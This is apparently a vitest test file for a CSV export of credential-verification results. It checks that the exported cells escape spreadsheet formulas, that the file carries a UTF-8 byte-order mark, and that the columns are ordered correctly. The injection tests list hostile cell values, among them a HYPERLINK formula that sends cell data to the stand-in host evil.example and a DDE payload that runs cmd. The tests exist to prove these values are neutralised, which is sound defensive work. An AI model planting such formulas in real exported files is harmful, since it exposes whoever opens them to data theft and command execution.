import { describe, expect, test } from 'vitest';
import { pageCsv } from '../../../lib/share/page-csv.ts';
import { pageReport } from '../../../lib/share/page-report.ts';
import { entry, tab } from '../components/samples.ts';

const MADE_AT = Date.UTC(2026, 10, 22, 14, 3);
const csvOf = (...entries: Parameters<typeof tab>[0]) => pageCsv(pageReport(tab(entries), MADE_AT));
const titled = (title: string) => csvOf(entry({ title }));

/** Reads RFC 4180: the cells of each record. */
function cellsOf(csv: string, separator = ','): string[][] {
  const records: string[][] = [[]];
  let cell = '';
  let isQuoted = false;
  const text = csv.replace(/^\uFEFF/, '');
  for (let at = 0; at < text.length; at++) {
    const letter = text[at] ?? '';
    const isDoubled = isQuoted && letter === '"' && text[at + 1] === '"';
    if (isDoubled) at++;
    if (letter === '"' && !isDoubled) isQuoted = !isQuoted;
    else if (letter === separator && !isQuoted) {
      records.at(-1)?.push(cell);
      cell = '';
    } else if (text.startsWith('\r\n', at) && !isQuoted) {
      records.at(-1)?.push(cell);
      records.push([]);
      cell = '';
      at++;
    } else cell += letter;
  }
  return records.filter((record) => record.length > 0);
}

describe('a cell that a spreadsheet would run', () => {
  test.each([
    '=HYPERLINK("https://evil.example?"&A1,"Open")',
    '+1+1',
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(1,1)',
    '\t=1+1',
    '\r=1+1',
    '\u200b=1+1',
    '  =1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(1)',
  ])('is text: %j', (title) => {
    for (const cell of cellsOf(titled(title)).flat()) {
      expect(cell).not.toMatch(/^[\s\p{Cf}]*[=+\-@＝＋－＠\t\r\n]/u);
    }
  });

  test.each(['x;=1+1', 'x";=1+1', 'x";"=1+1";"', 'x; "=1+1', 'x;\t+1', 'x;;@SUM(1)'])(
    'is text too where the spreadsheet separates by semicolons: %j',
    (title) => {
      // As lenient as the spreadsheets: a quote inside a cell changes nothing, separators separate.
      for (const cell of titled(title).split(/[;\r\n]+/)) expect(cell).not.toMatch(/^[\s",]*[=+\-@]/);
    },
  );

  test('is escaped in every column that somebody else wrote', () => {
    const evil = '=1+1';
    const csv = csvOf(
      entry({
        title: evil,
        holder: evil,
        issuedOn: evil,
        expiresOn: evil,
        issuer: { proven: evil, claimed: evil },
        claim: { title: evil, issuer: evil, dates: evil },
        asked: [{ host: evil, requests: 1 }],
      }),
    );
    for (const cell of cellsOf(csv).flat()) expect(cell).not.toMatch(/^=/);
  });
});

describe('the table', () => {
  test('begins with the mark by which spreadsheets know UTF-8, and ends each record as RFC 4180 says', () => {
    const csv = titled('Año Único');
    expect(csv.startsWith('\uFEFF')).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/);
  });

  test('keeps quotes, commas and line ends inside their cell', () => {
    const [head = [], row = []] = cellsOf(titled('Data, "Big"\nand small'));
    expect(row).toHaveLength(head.length);
    expect(row[head.indexOf('Title')]).toBe('Data, "Big" and small');
  });

  test('has one record a credential, in the order of the page, with state, reason and who looked where', () => {
    const expired = entry({
      key: '2',
      title: 'Old',
      state: 'caution',
      headline: 'expired',
      expiresOn: '2025-01-31',
    });
    const [head = [], ...rows] = cellsOf(csvOf(entry(), expired));
    const column = (name: string) => rows.map((row) => row[head.indexOf(name)]);
    expect(column('Title')).toEqual(['Cloud Practitioner', 'Old']);
    expect(column('State')).toEqual(['Verified', 'Caution']);
    expect(column('Reason')).toEqual(['Verified', 'Expired']);
    expect(column('Expires')).toEqual(['', '2025-01-31']);
    expect(column('Owner of the page')).toEqual(['Jane Doe', 'Jane Doe']);
    expect(column('Checked')).toEqual(['2026-11-22T12:00:00.000Z', '2026-11-22T12:00:00.000Z']);
    expect(column('Requests')).toEqual(['1 to api.credly.com', '1 to api.credly.com']);
  });
});
